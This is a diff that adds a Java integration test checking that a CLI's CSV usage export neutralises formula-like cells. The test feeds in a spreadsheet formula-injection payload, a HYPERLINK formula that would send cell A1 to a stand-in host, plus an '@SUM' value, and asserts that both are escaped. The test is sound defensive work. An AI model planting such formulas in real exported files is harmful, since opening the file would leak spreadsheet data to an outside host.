@@ -136,6 +136,17 @@ class UsageCliIT {
     }
 
     @Test
+    void aCsvCellThatStartsLikeAFormulaIsShownNotEvaluated() {
+        try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
+            new UsageStore(db).insert(List.of(row(Instant.now(), "k3", "t", "=HYPERLINK(\"http://x/?\"&A1,\"c\")", "m",
+                    "openai", 1, 0, 1, 1), row(Instant.now().minusSeconds(1), "k3", "t", "@SUM(A1)", "m", "openai", 1, 0, 1, 1)));
+        }
+        List<String> lines = aegis("usage", "--by", "run", "--format", "csv").out().lines().toList();
+        assertThat(lines).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\",1,1,0,0,1,0,0.000000001,0",
+                "'@SUM(A1),1,1,0,0,1,0,0.000000001,0");
+    }
+
+    @Test
     void bySessionClientAndAgentWithTheCacheHitRate() throws Exception {
         Instant now = Instant.now();
         try (Database db = Database.open(Database.defaultUrl(new AegisHome(Path.of(home))))) {
